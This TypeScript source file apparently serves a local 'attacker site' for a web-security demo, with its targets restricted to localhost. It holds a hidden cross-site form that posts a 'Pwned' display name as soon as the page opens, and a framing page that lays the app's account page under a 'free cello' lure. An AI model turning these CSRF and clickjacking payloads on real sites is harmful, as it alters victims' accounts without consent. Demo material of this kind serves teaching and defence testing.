import { createServer, type Server } from "node:http";
import { html, type Markup, trusted } from "./pages/html.js";

/** The attacker's own web site: another origin, with pages that aim at the app. */
export interface AttackerSite {
  readonly port: number;
  close(): Promise<void>;
}

/** Starts the attacker's site on a free port of the loopback address. */
export async function startAttackerSite(): Promise<AttackerSite> {
  const server = createServer((request, response) => {
    const url = new URL(request.url ?? "/", "http://localhost");
    const page = pageFor(url);
    response.writeHead(page === undefined ? 404 : 200, { "Content-Type": "text/html; charset=utf-8" });
    response.end(page?.toString());
  });
  await new Promise<void>((resolve, reject) => {
    server.once("error", reject);
    server.listen(0, "127.0.0.1", resolve);
  });
  return { port: portOf(server), close: () => closeServer(server) };
}

function portOf(server: Server): number {
  const address = server.address();
  return typeof address === "object" && address !== null ? address.port : 0;
}

function closeServer(server: Server): Promise<void> {
  server.closeAllConnections();
  return new Promise((resolve) => server.close(() => resolve()));
}

function pageFor(url: URL): Markup | undefined {
  const target = url.searchParams.get("target") ?? "";
  const attack = url.searchParams.get("attack") ?? "";
  // The attacker of this demo aims at apps of this machine only.
  if (!/^http:\/\/(?:localhost|127\.0\.0\.1):\d+$/.test(target)) return undefined;
  if (url.pathname === "/form") return formPage(`${target}/account/name?attack=${encodeURIComponent(attack)}`);
  if (url.pathname === "/frame") {
    return framePage(`${target}/account?attack=${encodeURIComponent(attack)}`, `${target}/locks/framing-unlocked`);
  }
  return undefined;
}

/** Posts a hidden form as soon as it is opened. */
function formPage(action: string): Markup {
  return attackerPage(
    "You have won a cello!",
    html`<form method="post" action="${action}" target="prize" hidden>
<input name="displayName" value="Pwned">
</form>
<p>We are wrapping it for you…</p>
<iframe name="prize" title="Where the answer goes" hidden></iframe>
<script>document.forms[0].submit();</script>`,
  );
}

/** Lays the app's page over the prize, and beside it one that may be framed, to know that framing works. */
function framePage(prize: string, control: string): Markup {
  return attackerPage(
    "Click here for your free cello!",
    html`<div class="frames">
<figure><iframe src="${prize}" title="The framed account page"></iframe><figcaption>your account page</figcaption></figure>
<figure><iframe src="${control}" title="A page without the lock"></iframe><figcaption>a page without the lock</figcaption></figure>
</div>`,
  );
}

const STYLE = `
  * { box-sizing: border-box; }
  body { margin: 0; padding: .75rem 1rem; font: .9rem/1.4 system-ui, sans-serif; background: #2b0f14; color: #ffd9d4; }
  h1 { margin: 0; font-size: 1.05rem; }
  p { margin: .25rem 0 0; }
  .frames { display: grid; grid-template-columns: 1fr 1fr; gap: .75rem; margin-top: .5rem; }
  figure { margin: 0; }
  figcaption { font-size: .75rem; }
  .frames iframe { width: 100%; height: 6.5rem; border: 1px solid #84424c; background: #fff; }
`;

function attackerPage(title: string, content: Markup): Markup {
  return html`<!doctype html>
<html lang="en">
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>${title}</title>
<link rel="icon" href="data:,">
<style>${trusted(STYLE)}</style>
<h1>${title}</h1>
${content}
</html>
`;
}
